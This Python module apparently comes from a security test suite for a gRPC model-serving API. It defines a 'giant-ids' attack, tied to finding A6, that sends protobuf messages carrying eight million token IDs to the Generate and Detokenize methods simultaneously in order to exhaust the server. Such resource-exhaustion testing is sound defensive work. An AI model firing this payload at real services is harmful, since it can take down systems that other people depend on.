from __future__ import annotations

import asyncio
from typing import Any

import grpc.aio

from hostile_messages import field

from ..attack import SERVICE, Attack, Seen, Target, count

IDS = 8_000_000


def raw(channel: grpc.aio.Channel, method: str) -> Any:
    make: Any = channel.unary_stream if method == "Generate" else channel.unary_unary
    return make(SERVICE + method)


async def attack(target: Target, seen: Seen) -> None:
    ids = b"\x05" * IDS
    async with target.channel() as channel:
        for _ in range(2):
            prompt = field(3, field(1, ids))
            calls = [
                raw(channel, "Generate")(prompt, metadata=target.metadata, timeout=20),
                raw(channel, "Detokenize")(field(1, ids), metadata=target.metadata, timeout=20),
            ]
            await asyncio.gather(*(count(seen, call) for call in calls))


ATTACK = Attack(name="giant-ids", finding="A6", run=attack)
